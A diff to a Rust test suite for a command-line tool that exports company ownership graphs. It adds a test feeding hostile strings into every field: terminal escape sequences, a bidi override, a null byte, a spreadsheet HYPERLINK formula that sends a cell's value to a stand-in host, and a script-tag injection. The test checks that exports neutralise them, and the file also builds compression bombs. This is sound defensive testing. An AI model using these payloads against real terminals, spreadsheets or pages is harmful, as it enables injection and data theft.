@@ -145,9 +145,8 @@ fn letters(out: &mut dyn Write, bytes: u64) -> io::Result<()> {
     Ok(())
 }
 
-#[test]
-fn one_line_of_a_gigabyte() {
-    for (format, _) in IMPORTERS {
+fn one_line(chosen: &dyn Fn(&str) -> bool) {
+    for (format, _) in IMPORTERS.into_iter().filter(|(n, _)| chosen(n)) {
         let open = match text_of(format) {
             Text::Xml => head(format),
             Text::Json => head(format) + "{\"id\": \"",
@@ -160,6 +159,18 @@ fn one_line_of_a_gigabyte() {
         });
         refused(format, "a gigabyte without an end of line", memory, make);
     }
+}
+
+#[test]
+fn one_line_of_a_gigabyte() {
+    one_line(&|n| n != "document");
+}
+
+/// The only format that is held as a whole reads up to its limit first.
+#[test]
+#[ignore = "a gigabyte read: run in release by .ci/run"]
+fn a_document_of_one_line_of_a_gigabyte() {
+    one_line(&|n| n == "document");
 }
 
 #[test]
@@ -255,6 +266,7 @@ fn bomb(byte: u8, unpacked: usize) -> Vec<u8> {
 }
 
 #[test]
+#[ignore = "packs and unpacks gigabytes: run in release by .ci/run"]
 fn packed_bombs() {
     let blanks = bomb(b' ', 1 << 30);
     let lines = bomb(b'\n', 1 << 30);
@@ -288,6 +300,7 @@ fn zip_bomb(name: &str, first: &[(&str, &str)]) -> Vec<u8> {
 }
 
 #[test]
+#[ignore = "packs and unpacks gigabytes: run in release by .ci/run"]
 fn archives_and_workbooks_that_are_bombs() {
     let dir = TempDir::new().unwrap();
     let types = ("[Content_Types].xml", "<Types/>");
@@ -312,4 +325,112 @@ fn archives_and_workbooks_that_are_bombs() {
             assert!(r.err.starts_with("error: ") && r.err.lines().count() <= 2, "{name} as {format}: {}", r.err);
         }
     }
+}
+
+/// Characters that a terminal, a spreadsheet, XML or C programs take for something else.
+const EVIL: [&str; 7] = [
+    "Ard\u{1b}]0;owned\u{7}\u{1b}[2Jent",
+    "Bri\u{9b}31mll",
+    "Corvo \u{202e}DTL DERAELC\u{202c}",
+    "Dr\u{0}ay",
+    "=HYPERLINK(\"http://x.example/?\"&A1)",
+    "<script>alert(1)</script>\" onload=\"x",
+    "line\r\nbreak\u{2028}and\u{85}more\u{fffe}",
+];
+
+/// A document whose every text is evil.
+fn evil() -> String {
+    let node = |(i, name): (usize, &&str)| {
+        serde_json::json!({"id": format!("n{i}"), "type": "company", "name": name, "aliases": [format!("@{name}")],
+            "properties": {"note": format!("+{name}")}})
+    };
+    let edge = |i: usize| {
+        serde_json::json!({"source": format!("n{i}"), "target": format!("n{}", i + 1), "type": "owns", "share": "60",
+            "role": EVIL[i], "evidence": [{"source": "xa", "locator": EVIL[i]}]})
+    };
+    let nodes: Vec<_> = EVIL.iter().enumerate().map(node).collect();
+    let edges: Vec<_> = (0..EVIL.len() - 1).map(edge).collect();
+    serde_json::json!({"cuibono": 1, "scope": "xa", "sources": [{"id": "xa", "title": EVIL[0]}],
+        "nodes": nodes, "edges": edges})
+    .to_string()
+}
+
+fn odd(c: char) -> bool {
+    (c.is_control() && !matches!(c, '\n' | '\t'))
+        || matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{2028}' | '\u{2029}')
+}
+
+#[test]
+fn evil_names_in_texts_and_exports() {
+    let dir = TempDir::new().unwrap();
+    std::fs::write(dir.path().join("evil.json"), evil()).unwrap();
+    let run = |args: &[&str]| {
+        let r = run(&dir, args, Box::new(|_| Ok(())));
+        assert!(matches!(r.code, Some(0 | 1)), "{args:?}: {:?} {}", r.code, r.err);
+        assert!(!r.err.chars().any(odd), "{args:?}: {:?}", r.err);
+        r.out
+    };
+    run(&["import", "evil.json", "--release", "2024-01-01", "-q"]);
+    // What is text for people has no such character in it, wherever it goes.
+    for args in [
+        &["show", "xa:n0"][..],
+        &["show", "xa:n4"],
+        &["trace", "xa:n6"],
+        &["path", "xa:n0", "xa:n6", "--format", "table"],
+        &["search", "ard", "--format", "table"],
+        &["neighbours", "xa:n3", "--format", "table"],
+        &["verdict", "xa:n6", "--as-of", "2026-03-01", "--format", "table"],
+        &["verify"],
+    ] {
+        let out = run(args);
+        assert!(!out.is_empty() && !out.chars().any(odd), "{args:?}: {out:?}");
+    }
+    // Rows stay rows.
+    let out = run(&["neighbours", "xa:n0", "--hops", "9", "--format", "tsv"]);
+    let columns: Vec<usize> = out.lines().map(|l| l.split('\t').count()).collect();
+    assert!(columns.len() == EVIL.len() && columns.iter().all(|n| *n == columns[0]), "{columns:?}");
+    for format in ["graphml", "gexf", "svg"] {
+        let out = run(&["export", "--format", format]);
+        assert!(!out.chars().any(|c| (c < ' ' && !matches!(c, '\n' | '\t')) || c == '\u{fffe}'), "{format}");
+        assert!(!out.contains("<script") && out.contains("&lt;script"), "{format}");
+        let mut reader = quick_xml::Reader::from_str(&out);
+        loop {
+            match reader.read_event().unwrap_or_else(|e| panic!("{format}: {e}")) {
+                quick_xml::events::Event::Eof => break,
+                quick_xml::events::Event::Start(e) | quick_xml::events::Event::Empty(e) => {
+                    assert!(e.attributes().all(|a| a.unwrap().key.as_ref() != "onload"), "{format}");
+                }
+                _ => {}
+            }
+        }
+    }
+    for format in ["document", "jsonl", "cytoscape", "node-link", "graphology", "ftm", "bods"] {
+        let out = run(&["export", "--format", format]);
+        assert!(!out.chars().any(|c| c < ' ' && c != '\n'), "{format}: {out:?}");
+        let values = serde_json::Deserializer::from_str(&out).into_iter::<serde_json::Value>();
+        assert!(values.map(|v| v.unwrap()).count() >= 1, "{format}");
+    }
+    let out = run(&["export", "--format", "dot"]);
+    assert!(!out.contains(['\u{1b}', '\0']), "{out:?}");
+    for (flag, what) in [("--for-spreadsheet", true), ("-q", false)] {
+        let folder = if what { "sheets" } else { "tables" };
+        run(&["export", "--format", "csv", "-o", folder, flag]);
+        for name in ["nodes.csv", "edges.csv", "sources.csv"] {
+            let bytes = std::fs::read(dir.path().join(folder).join(name)).unwrap();
+            let mut rows = csv::ReaderBuilder::new().flexible(false).from_reader(&bytes[..]);
+            for row in rows.records() {
+                let row = row.unwrap();
+                let formula = |c: &&str| c.trim_start().starts_with(['=', '+', '-', '@', '＝', '＋', '－', '＠']);
+                if what {
+                    assert_eq!(row.iter().find(formula), None, "{name}");
+                }
+            }
+        }
+    }
+    run(&["export", "--format", "neo4j", "-o", "neo4j"]);
+    // And all of it comes back as it was.
+    let dump = run(&["dump"]);
+    std::fs::write(dir.path().join("dump.jsonl"), &dump).unwrap();
+    run(&["import", "dump.jsonl", "--store", "again", "-q"]);
+    assert_eq!(run(&["dump", "--store", "again"]), dump);
 }
